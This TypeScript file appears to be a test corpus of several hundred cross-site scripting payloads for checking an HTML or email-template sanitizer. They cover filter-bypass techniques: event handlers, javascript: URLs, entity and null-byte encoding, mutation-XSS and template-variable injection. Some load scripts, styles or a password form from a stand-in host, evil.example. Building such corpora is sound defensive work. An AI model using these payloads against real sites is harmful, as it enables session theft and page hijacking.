/** How a payload tries to get out of the place that it was given. */
export type XssClass =
  | "attribute"
  | "base"
  | "bidi"
  | "cdata"
  | "comment"
  | "css"
  | "encoding"
  | "entity"
  | "event"
  | "form"
  | "frame"
  | "link"
  | "mathml"
  | "meta"
  | "mutation"
  | "noscript"
  | "null_byte"
  | "raw_text"
  | "script"
  | "srcset"
  | "style"
  | "svg"
  | "template"
  | "url"
  | "variable";

export interface XssPayload {
  readonly kind: XssClass;
  readonly payload: string;
}

/** What each payload calls where it runs; a page that listens defines it. */
const RUN = "xss()";

const corpus: Readonly<Record<XssClass, readonly string[]>> = {
  script: [
    `<script>${RUN}</script>`,
    `<ScRiPt>${RUN}</sCrIpT>`,
    `<script src=//evil.example/x.js></script>`,
    `<script/x>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `<<script>${RUN}//<</script>`,
    `<script type=module>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script>${RUN}`,
  ],
  event: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x:x onerror=${RUN}//`,
    `<body onload=${RUN}>`,
    `<details open ontoggle=${RUN}>x</details>`,
    `<video src=x onerror=${RUN}></video>`,
    `<audio src onerror=${RUN}></audio>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<div onpointerover=${RUN} style="width:9999px;height:9999px">x</div>`,
    `<p onfocus=${RUN} tabindex=0 autofocus id=x>x</p>`,
    `<input autofocus onfocus=${RUN}>`,
    `<a href=# onclick=${RUN}>x</a>`,
    `<img/src/onerror=${RUN}>`,
    `<img src=x\u000conerror=${RUN}>`,
    `<xss style="animation-name:x" onanimationstart=${RUN}>x</xss>`,
    `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p>x</button>`,
  ],
  attribute: [
    `" onmouseover="${RUN}`,
    `' onmouseover='${RUN}`,
    `"><script>${RUN}</script>`,
    `'><img src=x onerror=${RUN}>`,
    `" autofocus onfocus=${RUN} x="`,
    `" style="animation-name:x" onanimationend="${RUN}`,
    `"/onload=${RUN} "`,
    `\`onerror=${RUN}//`,
    `x" href="javascript:${RUN}`,
    `<img alt="\`\`onerror=${RUN}" src=x>`,
    `<p title="<img src=x onerror=${RUN}>">x</p>`,
    `<a title='"><img src=x onerror=${RUN}>'>x</a>`,
    `<img "=" title="><img src=x onerror=${RUN}>">`,
  ],
  url: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `  javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    `java\r\nscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript\t:${RUN}`,
    `javascript://evil.example/%0a${RUN}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    `data:image/png,<script>${RUN}</script>`,
    `feed:javascript:${RUN}`,
    `view-source:javascript:${RUN}`,
    `blob:javascript:${RUN}`,
    `filesystem:http://evil.example/x`,
    `file:///etc/passwd`,
    `<a href="javascript:${RUN}">x</a>`,
    `<a href=" &#14; javascript:${RUN}">x</a>`,
    `<a href="java&Tab;script:${RUN}">x</a>`,
    `<a href="java&NewLine;script&colon;${RUN}">x</a>`,
    `<area href="javascript:${RUN}">`,
    `<img src="javascript:${RUN}">`,
    `<img lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}">`,
    `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">x</td></tr></table>`,
    `<a ping="https://evil.example/" href="https://x.example/">x</a>`,
    `<q cite="javascript:${RUN}">x</q>`,
  ],
  entity: [
    `<a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="&#x6A;avascript&#58;${RUN}">x</a>`,
    `<a href="&#0000106&#0000097&#0000118&#0000097script:${RUN}">x</a>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `&amp;lt;script&amp;gt;${RUN}`,
    `<p title="&quot;><img src=x onerror=${RUN}>">x</p>`,
    `&#x3c;svg onload=${RUN}&#x3e;`,
  ],
  encoding: [
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
    `<a href="javascript%3A${RUN}">x</a>`,
    `<img src=x o\u200bnerror=${RUN}>`,
    `<\u0073cript>${RUN}</\u0073cript>`,
    `\u001b$B<img src=x onerror=${RUN}>\u001b(B`,
  ],
  svg: [
    `<svg onload=${RUN}>`,
    `<svg/onload=${RUN}/>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<svg><title><img src=x onerror=${RUN}></title></svg>`,
    `<svg><desc><template><img src=x onerror=${RUN}></template></desc></svg>`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<svg><set attributeName=href to=javascript:${RUN} /></svg>`,
  ],
  mathml: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
    `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  ],
  mutation: [
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<table><a href="x"><td><a title="</a><img src=x onerror=${RUN}>">x`,
    `<p id="</p><img src=x onerror=${RUN}>"><table><p>x`,
    `<a id="x"><b><a id="</a><svg onload=${RUN}>">x`,
    `<font><p><font><p title="</font><img src=x onerror=${RUN}>">`,
    `<select><style></select><img src=x onerror=${RUN}></style>`,
    `<table><tr><td></table><img src=x onerror=${RUN}>`,
    `<div><table><svg><style></table><img src=x onerror=${RUN}></style>`,
    `<li><p></li><img title="</p><script>${RUN}</script>">`,
    `<b><p title="<!--"></b><img src=x onerror=${RUN}>-->`,
    `<p><svg><style><!--</style><img src=x onerror=${RUN}>--></style></svg>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  ],
  template: [
    `<template><script>${RUN}</script></template>`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
    `<template><p title="</template><img src=x onerror=${RUN}>"></template>`,
    `<slot onslotchange=${RUN}>x</slot>`,
  ],
  noscript: [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<noscript><img src=x onerror=${RUN}></noscript>`,
    `<noscript><!--</noscript><img src=x onerror=${RUN}>--></noscript>`,
    `<div><noscript></div><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  raw_text: [
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
    `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
    `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
    `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
    `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
    `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
    `<option><style></option></select><img src=x onerror=${RUN}></style>`,
  ],
  comment: [
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!---><img src=x onerror=${RUN}>-->`,
    `<!-- --!><img src=x onerror=${RUN}>-->`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
    `<!--[if mso]><img src=x onerror=${RUN}><![endif]-->`,
    `--><img src=x onerror=${RUN}>`,
    `<![endif]--><img src=x onerror=${RUN}>`,
    `<comment><img src="</comment><img src=x onerror=${RUN}//">`,
    `<!foo="><img src=x onerror=${RUN}>">`,
    `<?foo="><img src=x onerror=${RUN}>">`,
    `</foo="><img src=x onerror=${RUN}>">`,
  ],
  cdata: [
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
    `<math><![CDATA[</math><img src=x onerror=${RUN}>]]>`,
    `<![CDATA[><script>${RUN}</script>`,
  ],
  css: [
    `<p style="background:url(javascript:${RUN})">x</p>`,
    `<p style="background-image:url(https://evil.example/x.png)">x</p>`,
    `<p style="background:u\\72l(https://evil.example/x.png)">x</p>`,
    `<p style="width:expression(${RUN})">x</p>`,
    `<p style="width:exp/**/ression(${RUN})">x</p>`,
    `<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>`,
    `<p style="behavior:url(x.htc)">x</p>`,
    `<p style="color:red;}</style><img src=x onerror=${RUN}>">x</p>`,
    `<p style="background:image-set('https://evil.example/x.png' 1x)">x</p>`,
    `<p style="list-style:&#117;rl(https://evil.example/x.png)">x</p>`,
    `<p style="content:url(https://evil.example/x.png)">x</p>`,
    `<p style="background:url/**/(https://evil.example/x.png)">x</p>`,
  ],
  style: [
    `<style>@import 'https://evil.example/x.css';</style>`,
    `<style>@im\\port 'https://evil.example/x.css';</style>`,
    `<style>body{background:url(https://evil.example/x.png)}</style>`,
    `<style>p{color:red</style><img src=x onerror=${RUN}></style>`,
    `<style><!--</style><script>${RUN}</script>--></style>`,
    `<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}p{font-family:x}</style><p>x</p>`,
    `<style>p::before{content:url(https://evil.example/x.png)}</style><p>x</p>`,
    `<style>p{color:&#117;rl(https://evil.example/x.png)}</style><p>x</p>`,
    `<style>p{width:expression(${RUN})}</style><p>x</p>`,
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
    `<style>p{background:red"onmouseover="${RUN}}</style><p>x</p>`,
    `<style>[a="</style><img src=x onerror=${RUN}>"]{color:red}</style>`,
    `<style>p{font-family:'</style><img src=x onerror=${RUN}>'}</style><p>x</p>`,
    `<style media="</style><img src=x onerror=${RUN}>">p{color:red}</style>`,
    `<style>@media </style><img src=x onerror=${RUN}> {p{color:red}}</style>`,
  ],
  link: [
    `<link rel=stylesheet href=https://evil.example/x.css>`,
    `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
    `<link rel=preload as=image href=https://evil.example/x.png>`,
    `<link rel=dns-prefetch href=//evil.example>`,
    `<link rel=stylesheet onload=${RUN} href=data:text/css,x>`,
  ],
  srcset: [
    `<img srcset="x" onerror=${RUN}>`,
    `<img src=x srcset="javascript:${RUN} 1x">`,
    `<picture><source srcset="https://evil.example/x.png"><img src=x onerror=${RUN}></picture>`,
    `<img srcset=",javascript:${RUN}" imagesrcset="https://evil.example/x.png 1x">`,
  ],
  meta: [
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<meta http-equiv="set-cookie" content="x=1">`,
  ],
  base: [
    `<base href="javascript:${RUN}//"><a href="x">x</a>`,
    `<base href="https://evil.example/"><img src="x.png">`,
    `<base target="_top"><a href="https://x.example/">x</a>`,
  ],
  form: [
    `<form action="javascript:${RUN}"><button>x</button></form>`,
    `<form><button formaction="javascript:${RUN}">x</button></form>`,
    `<form><input type=image src=x formaction=javascript:${RUN}></form>`,
    `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
    `<isindex type=image src=1 onerror=${RUN}>`,
    `<form action="https://evil.example/"><input name=password></form>`,
    `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  ],
  frame: [
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<applet code="x.class"></applet>`,
    `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
    `<portal src="javascript:${RUN}"></portal>`,
    `<fencedframe></fencedframe><iframe src=//evil.example></iframe>`,
  ],
  null_byte: [
    `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
    `<img src=x on\u0000error=${RUN}>`,
    `java\u0000script:${RUN}`,
    `<img\u0000 src=x onerror=${RUN}>`,
    `<a href="java\u0000script:${RUN}">x</a>`,
    `\u0000<script>${RUN}</script>`,
  ],
  bidi: [
    `\u202e<script>${RUN}</script>\u202c`,
    `<img src=x onerror\u202e=${RUN}>`,
    `\u2066javascript:${RUN}\u2069`,
    `<a href="\u200fjavascript:${RUN}">\u202emoc.knab</a>`,
  ],
  variable: [
    `{{first_name|<script>${RUN}</script>}}`,
    `{{first_name|"><img src=x onerror=${RUN}>}}`,
    `<a href="{{first_name|javascript:${RUN}}}">x</a>`,
    `<a href="java{{last_name}}script:${RUN}">x</a>`,
    `<img src=x {{first_name|onerror=${RUN}}}>`,
    `<{{first_name|script}}>${RUN}</{{first_name|script}}>`,
    `<scr{{last_name}}ipt>${RUN}</scr{{last_name}}ipt>`,
    `<p style="background:u{{last_name}}rl(https://evil.example/x.png)">x</p>`,
    `<style>p{background:u{{last_name}}rl(https://evil.example/x.png)}</style><p>x</p>`,
    `{{ " title='JUICE_CODE_BLOCK_0_' onmouseover=${RUN} x=" }}<p title="JUICE_CODE_BLOCK_0_">x</p>`,
    `<%= <img src=x onerror=${RUN}> %><p title="JUICE_CODE_BLOCK_0_">x</p>`,
    `\ufdd00\ufdd1<img src=x onerror=${RUN}>`,
    `<a href="{{unsubscribe_url}}{{first_name|javascript:${RUN}}}">x</a>`,
  ],
};

/** Each must stay words, wherever it is put. */
export const xssPayloads: readonly XssPayload[] = Object.entries(corpus).flatMap(([kind, payloads]) =>
  payloads.map((payload) => ({ kind: kind as XssClass, payload })),
);
